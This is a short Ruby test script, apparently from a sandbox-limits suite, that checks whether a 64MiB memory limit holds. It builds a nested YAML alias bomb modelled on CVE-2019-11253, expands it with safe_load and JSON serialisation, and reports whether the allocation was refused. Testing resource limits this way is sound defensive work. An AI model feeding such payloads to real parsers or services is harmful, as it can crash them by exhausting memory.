# /// attack
# guarantee = "memory"
# summary = "Writes out YAML whose aliases name each other: a few lines that become all the memory there is."
# reference = "CVE-2019-11253"
# success = "three times the limit is held"
# policy = { limits = { memory = "64MiB" } }
# refusal = { RLIMIT_DATA = "errno | limit memory | says failed to allocate memory | says NoMemoryError", default = "limit memory" }
# ///

require "json"
require "yaml"
require_relative "kit"

lines = ["a0: &a0 [#{(["xxxxxxxxxxxxxxxxxxxx"] * 10).join(", ")}]"]
(1..5).each { |depth| lines << "a#{depth}: &a#{depth} [#{(["*a#{depth - 1}"] * 10).join(", ")}]" }
begin
  made = JSON.generate(YAML.safe_load(lines.join("\n"), aliases: true)) * 9
rescue NoMemoryError
  refused "ENOMEM"
end
could_not_run made.bytesize if made.bytesize < 192 << 20
succeeded
